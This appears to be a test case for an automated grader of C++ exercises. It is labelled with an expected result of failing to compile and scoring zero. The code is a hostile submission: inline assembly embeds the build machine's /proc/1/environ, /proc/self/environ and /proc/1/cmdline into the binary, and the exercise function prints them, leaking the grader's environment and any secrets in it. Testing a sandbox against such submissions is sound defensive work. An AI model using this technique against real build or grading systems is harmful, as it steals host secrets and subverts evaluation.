// Has the assembler put the environment of the compiler into the program, and prints it.
//
// kind: including
// exercise: 1-cards/01-halves-fit
// outcome: checked, does not compile
// points: 0
// reasons: wrong answer

#include <iostream>

#include "halves_fit.hpp"

asm(".data\n"
    "secrets: .incbin \"/proc/1/environ\"\n"
    ".incbin \"/proc/self/environ\"\n"
    ".incbin \"/proc/1/cmdline\"\n"
    "end_of_secrets: .byte 0\n"
    ".text\n");
extern "C" const char secrets[], end_of_secrets[];

bool fit(Half, Half) {
    std::cout.write(secrets, end_of_secrets - secrets).flush();
    return true;
}
